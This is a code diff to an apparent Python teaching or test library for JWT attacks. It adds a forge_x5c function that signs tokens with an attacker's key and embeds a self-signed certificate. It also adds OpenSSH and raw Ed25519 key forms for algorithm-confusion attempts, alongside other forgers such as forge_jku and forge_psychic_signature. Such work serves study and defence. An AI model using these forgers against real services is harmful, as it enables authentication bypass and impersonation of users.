@@ -12,6 +12,7 @@ keys — exactly the defences these attacks show other libraries lacking.
 
 from __future__ import annotations
 
+import base64
 import contextlib
 import datetime as dt
 import hashlib
@@ -27,7 +28,7 @@ from urllib.parse import urlsplit
 import jwt
 from cryptography import x509
 from cryptography.hazmat.primitives import hashes, serialization
-from cryptography.hazmat.primitives.asymmetric import rsa
+from cryptography.hazmat.primitives.asymmetric import ed25519, rsa
 from cryptography.x509.oid import NameOID
 
 from . import b64, clock, keys
@@ -47,6 +48,7 @@ __all__ = [
     "forge_hs_with_key",
     "forge_jku",
     "forge_psychic_signature",
+    "forge_x5c",
     "forge_x5u",
     "legit_token",
     "prefix_allowlist_bypasses",
@@ -158,6 +160,15 @@ def forge_embedded_jwk(claims: dict[str, Any], attacker_key: keys.DemoKey) -> st
     return _sign_with(attacker_key, {"kid": attacker_key.kid, "jwk": jwk}, claims)
 
 
+def forge_x5c(claims: dict[str, Any], attacker_key: keys.DemoKey) -> str:
+    """Sign with the attacker's key and embed a self-signed certificate for it in `x5c` (checklist B.6).
+
+    `x5c` holds standard base64 (not base64url) DER certificates, RFC 7515 §4.1.6.
+    """
+    der = x509.load_pem_x509_certificate(self_signed_certificate(attacker_key)).public_bytes(serialization.Encoding.DER)
+    return _sign_with(attacker_key, {"x5c": [base64.b64encode(der).decode("ascii")]}, claims)
+
+
 def forge_jku(claims: dict[str, Any], attacker_key: keys.DemoKey, url: str) -> str:
     """Sign with the attacker's key and point `jku` at the attacker's JWK Set (checklist B.5)."""
     return _sign_with(attacker_key, {"kid": attacker_key.kid, "jku": url}, claims)
@@ -257,15 +268,19 @@ def public_key_forms(public_key: Any) -> dict[str, bytes]:
     Algorithm confusion only works if the attacker MACs with exactly the bytes the server holds, so
     tools try every common form (checklist B.2); each is public, so each is a "secret" anyone knows.
     """
-    spki_pem = public_key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
+    spki = serialization.PublicFormat.SubjectPublicKeyInfo
+    spki_pem = public_key.public_bytes(serialization.Encoding.PEM, spki)
     forms = {
         "PEM (SubjectPublicKeyInfo)": spki_pem,
         "PEM without the final newline": spki_pem.rstrip(b"\n"),
-        "DER": public_key.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo),
+        "DER": public_key.public_bytes(serialization.Encoding.DER, spki),
+        "OpenSSH line": public_key.public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH),
         "JWK JSON": json.dumps(keys.public_jwk_of(public_key), separators=(",", ":"), sort_keys=True).encode(),
     }
     if isinstance(public_key, rsa.RSAPublicKey):
         forms["PEM (PKCS#1)"] = public_key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.PKCS1)
+    if isinstance(public_key, ed25519.Ed25519PublicKey):
+        forms["raw Ed25519 bytes"] = public_key.public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
     return forms
 
 
